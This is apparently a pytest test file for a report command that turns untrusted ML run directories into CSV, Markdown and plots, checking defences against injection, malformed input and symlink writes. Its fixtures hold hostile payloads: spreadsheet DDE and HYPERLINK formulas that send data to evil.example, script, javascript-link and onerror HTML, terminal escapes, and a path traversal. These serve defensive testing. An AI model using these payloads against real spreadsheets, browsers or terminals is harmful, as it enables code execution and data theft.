"""`xgen report` on a run directory someone handed you: nothing in it runs in a spreadsheet or a
browser, malformed files are skipped with a warning naming file and line, and nothing is written
through a symbolic link to outside the folder reported on."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from xgen.runtime.cli.report import main

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def job(sweep: Path, name: str, summary, metrics_csv: bytes | None = None) -> Path:
    d = sweep / name
    d.mkdir(parents=True)
    (d / "summary.json").write_text(summary if isinstance(summary, str) else json.dumps(summary))
    if metrics_csv is not None:
        (d / "metrics.csv").write_bytes(metrics_csv)
    return d


def hostile_sweep(root: Path) -> Path:
    sweep = root / "sweep"
    job(sweep, "0", {"status": "completed", "overrides": ["lr=-0.5", "note==cmd|' /C calc'!A0"],
                     "metrics": {"val/nelbo": -1.25}, "wall_time_s": 3.0,
                     "error": None})
    job(sweep, "1", {"status": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                     "overrides": ["lr=0.1", "note=@SUM(1+1)*cmd|' /C calc'!A0"],
                     "metrics": {"val/nelbo": 2.0}, "error": "\t=1+2 <script>alert(1)</script>"})
    job(sweep, "2", {"status": "failed\x1b]8;;http://evil.example\x07", "overrides": ["lr=0.2", "note=+1+cmd|' /C calc'!A0"],
                     "metrics": {}, "error": "[click](javascript:alert(1)) <img src=x onerror=alert(2)> | `x` *y*"})
    job(sweep, "=2+5", {"status": "completed", "overrides": ["lr=0.3", "note=-2+3"], "metrics": {"val/nelbo": 1.0}})
    return sweep


def test_report_csv_cells_cannot_run_in_a_spreadsheet(tmp_path, capsys):
    sweep = hostile_sweep(tmp_path)
    assert main([str(sweep)]) == 0
    capsys.readouterr()
    rows = list(csv.reader(open(sweep / "report.csv", newline="")))
    header, body = rows[0], rows[1:]
    for row in rows:
        for cell in row:  # every cell a spreadsheet would evaluate is a plain number
            assert not cell.startswith(FORMULA_START) or NUMBER.match(cell), cell
    by_id = {r[0]: dict(zip(header, r)) for r in body}
    assert set(by_id) == {"0", "1", "2", "'=2+5"}
    assert by_id["0"]["lr"] == "-0.5" and by_id["0"]["val/nelbo"] == "-1.25"  # real negatives stay numbers
    assert by_id["0"]["note"] == "'=cmd|' /C calc'!A0"
    assert by_id["1"]["status"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert by_id["1"]["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_id["1"]["error"] == "'\t=1+2 <script>alert(1)</script>"
    assert by_id["2"]["note"] == "'+1+cmd|' /C calc'!A0"
    assert by_id["'=2+5"]["note"] == "'-2+3"


def test_report_markdown_shows_html_as_text(tmp_path, capsys):
    markdown_it = pytest.importorskip("markdown_it")
    sweep = hostile_sweep(tmp_path)
    assert main([str(sweep)]) == 0
    printed = capsys.readouterr().out
    md = (sweep / "report.md").read_text()
    assert "<script>" not in md and "<img" not in md and "](javascript:" not in md
    assert "&lt;script&gt;alert\\(1\\)&lt;/script&gt;" in md
    assert "\x1b" not in md + printed and "\x07" not in md + printed  # no terminal escapes either
    # rendered by a Markdown renderer that passes raw HTML through: no element, no link, the text intact
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    assert "<script" not in html and "<img" not in html and "<a " not in html and "<code>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[click](javascript:alert(1)) &lt;img src=x onerror=alert(2)&gt; | `x` *y*" in html
    cells = [re.sub(r"<[^>]+>", "", c) for c in re.findall(r"<tr>(.*?)</tr>", html, re.S)]
    assert len(cells) == 5  # the header and one row per job: the | in the error did not split a row


def _metrics_rows(lines: list[bytes]) -> bytes:
    return b"epoch,step,val/nelbo\n" + b"".join(lines)


def test_report_skips_malformed_rows_with_a_warning(tmp_path, capsys):
    sweep = tmp_path / "sweep"
    big = b"1" * (200 * 1024)
    job(sweep, "0", {"status": "completed", "overrides": ["lr=0.1"], "metrics": {"val/nelbo": 300.0}},
        _metrics_rows([b"0,10,310.5\n",            # line 2
                       b"1,20,abc\n",              # line 3: not a number
                       b"2,30,29\xff9.0\n",        # line 4: not UTF-8
                       b"3,40," + big + b"\n",     # line 5: a 200 KB field
                       b"4,50,290.25\n",           # line 6
                       b"5,60\n",                  # line 7: a field short
                       b"6,70,280.0\n"]))          # line 8
    job(sweep, "1", '{"status": "completed",\n "metrics": {"val/nelbo": 3')  # truncated JSON, line 2
    job(sweep, "2", {"status": 5, "overrides": "lr=0.3", "wall_time_s": "soon", "error": {"a": 1},
                     "metrics": {"val/nelbo": "abc", "val/fid": [1], "val/kl": True, "val/rec": 12.5}})
    job(sweep, "3", b"\xff\xfe{}".decode("latin-1"))  # written as UTF-8 of latin-1: valid UTF-8, not JSON
    (sweep / "4").mkdir()
    (sweep / "4" / "summary.json").write_bytes(b'{"status": "completed", "error": "\xff"}')  # not UTF-8
    (sweep / "5").mkdir()
    (sweep / "5" / "summary.json").write_text("[" * 100_000 + "]" * 100_000)  # nested beyond the parser's depth
    assert main([str(sweep)]) == 0
    cap = capsys.readouterr()
    assert "Traceback" not in cap.err + cap.out
    m0, s1, s2 = sweep / "0" / "metrics.csv", sweep / "1" / "summary.json", sweep / "2" / "summary.json"
    for needle in (f"{m0}:3: val/nelbo: not a number ('abc')", f"{m0}:4: not UTF-8 (byte 0xff at column 8)",
                   f"{m0}:4: val/nelbo: not a number", f"{m0}:5: row of 204805 bytes", f"{m0}:7: 2 fields",
                   f"{s1}:2: not valid JSON", f"{s2}:1: status: not a string", f"{s2}:1: overrides: not a list",
                   f"{s2}:1: wall_time_s: not a number ('soon')", f"{s2}:1: error: not a string",
                   f"{s2}:1: metrics.val/nelbo: not a number ('abc')", f"{s2}:1: metrics.val/fid: not a number",
                   f"{s2}:1: metrics.val/kl: not a number (True)", f"{sweep / '3' / 'summary.json'}:1: not valid JSON",
                   f"{sweep / '4' / 'summary.json'}:1: not UTF-8", f"{sweep / '5' / 'summary.json'}: nested"):
        assert sum(needle in line and line.startswith("xgen report: warning: ") for line in cap.err.splitlines()) == 1, needle
    rows = {r["id"]: r for r in csv.DictReader(open(sweep / "report.csv", newline=""))}
    assert rows["1"]["status"] == "corrupt summary.json" and rows["2"]["val/rec"] == "12.5"
    assert rows["2"]["val/nelbo"] == "" and rows["2"]["wall_time_s"] == ""
    # the curve keeps exactly the good rows of job 0
    from xgen.runtime.report import collect, curves_figure

    fig = curves_figure(collect(sweep))
    (line,) = fig.axes[0].get_lines()
    assert list(line.get_xdata()) == [0.0, 4.0, 6.0] and list(line.get_ydata()) == [310.5, 290.25, 280.0]


def test_report_labels_are_not_mathtext_and_plot_names_are_plain(tmp_path, capsys):
    """Override keys become axis labels and file names: a `$...$` key is shown as typed, not parsed."""
    sweep = tmp_path / "sweep"
    for i, v in enumerate((1, 2)):
        job(sweep, str(i), {"status": "completed", "overrides": [f"$\\frac{{$/../../x\x00y={v}"],
                            "metrics": {"val/nelbo": 10.0 + v}})
    assert main([str(sweep), "--metrics", "val/nelbo"]) == 0
    assert "Traceback" not in capsys.readouterr().err
    (plot,) = [p.name for p in sweep.glob("plot_*.png")]
    assert re.fullmatch(r"plot_val_nelbo_vs_[A-Za-z0-9._-]+\.png", plot) and list(tmp_path.glob("x*")) == []


def _one_job(root: Path) -> Path:
    return job(root, "0", {"status": "completed", "overrides": ["lr=0.1"], "metrics": {"val/nelbo": 1.0}},
               _metrics_rows([b"0,10,2.0\n", b"1,20,1.0\n"])).parent


@pytest.mark.parametrize("name", ["report.csv", "report.md", "curves.png"])
def test_report_refuses_a_link_out_of_the_root(tmp_path, capsys, name):
    sweep = _one_job(tmp_path / "handed")
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (sweep / name).symlink_to(victim)
    assert main([str(sweep)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("xgen report: error: ") and name in err[0] and str(victim) in err[0]
    assert victim.read_text() == "precious\n"
    assert not (sweep / "report.csv").is_file() or (sweep / "report.csv").is_symlink()  # nothing written
    # the same directory with the link removed reports fine
    (sweep / name).unlink()
    assert main([str(sweep)]) == 0 and (sweep / "report.csv").is_file()


def test_report_refuses_a_linked_output_folder(tmp_path, capsys):
    sweep = _one_job(tmp_path / "handed")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (sweep / "reports").symlink_to(elsewhere, target_is_directory=True)
    for out in (sweep / "reports", sweep / "reports" / "new"):
        assert main([str(sweep), "--out", str(out)]) == 2
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and "xgen report: error: " in err[0] and str(elsewhere) in err[0]
    assert list(elsewhere.iterdir()) == []
    # a link inside the output folder that stays inside it is replaced by the new file, not followed
    old = sweep / "old.md"
    old.write_text("old\n")
    (sweep / "report.md").symlink_to(old)
    assert main([str(sweep)]) == 0
    assert old.read_text() == "old\n" and not (sweep / "report.md").is_symlink()
    # an --out folder of your own outside the directory is fine
    assert main([str(sweep), "--out", str(tmp_path / "mine")]) == 0 and (tmp_path / "mine" / "report.md").is_file()
